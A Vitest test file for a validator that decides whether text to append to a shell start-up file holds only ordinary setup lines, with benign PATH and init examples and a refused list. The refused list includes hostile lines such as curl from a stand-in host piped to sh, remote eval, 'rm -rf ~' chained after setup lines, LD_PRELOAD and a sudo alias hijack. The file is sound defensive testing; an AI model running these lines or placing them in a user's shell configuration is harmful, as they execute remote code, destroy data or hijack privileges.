// The setup lines a tool's install docs tell the user to append to a shell start-up file, and the
// look-alikes that must not pass for them.
import { describe, expect, it } from "vitest";
import { onlySetupLines } from "../../../src/analysis/shell/setup-lines.js";

describe("setup lines", () => {
  it.each([
    'export PATH="$HOME/.cargo/bin:$PATH"',
    "export PATH=$PATH:/usr/local/go/bin",
    'export PATH="$HOME/.local/bin:$HOME/go/bin:$PATH"',
    'PATH="$PATH:${HOME}/.bun/bin"',
    'export BUN_INSTALL="$HOME/.bun"\nexport PATH="$BUN_INSTALL/bin:$PATH"',
    'export PNPM_HOME="$HOME/.local/share/pnpm"\nexport PATH="$PNPM_HOME:$PATH"',
    'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"  # This loads nvm',
    '. "$HOME/.cargo/env"',
    "source ~/.cargo/env",
    'eval "$(starship init zsh)"',
    'eval "$(zoxide init bash)"',
    'eval "$(pyenv init -)"',
    'eval "$(/opt/homebrew/bin/brew shellenv)"',
    "source <(kubectl completion zsh)",
    "starship init fish | source",
    "fish_add_path ~/.cargo/bin",
    "export GPG_TTY=$(tty)",
    "export JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64",
    '# added by rustup\nexport PATH="$HOME/.cargo/bin:$PATH"\n',
    "export LANG=en_US.UTF-8",
  ])("passes %j", (text) => {
    expect(onlySetupLines(text)).toBe(true);
  });

  it.each([
    "",
    "# only a comment",
    'export PATH="/tmp/bin:$PATH"',
    'export PATH=".:$PATH"',
    'export PATH="$HOME/.evil/bin:$PATH"',
    "export PATH=/usr/local/bin",
    "export GOPATH=/tmp/go",
    'export GOPATH=/tmp/go\nexport PATH="$GOPATH/bin:$PATH"',
    'export CARGO_HOME="$HOME/.x"',
    "export LD_PRELOAD=/tmp/x.so",
    "export PROMPT_COMMAND='curl -s x.example | sh'",
    'export LANG="$(curl -s x.example)"',
    'eval "$(curl -s https://x.example/init)"',
    'eval "$(starship init zsh; rm -rf ~)"',
    "source /tmp/x.sh",
    'source "$HOME/.cargo/env"; rm -rf ~',
    'export PATH="$HOME/.cargo/bin:$PATH"\nrm -rf ~',
    'export PATH="$HOME/.cargo/bin:$PATH" && curl x.example | sh',
    "alias sudo=/tmp/x",
    "alias ll='ls -la'",
    'export LANG="en #x"',
  ])("refuses %j", (text) => {
    expect(onlySetupLines(text)).toBe(false);
  });
});
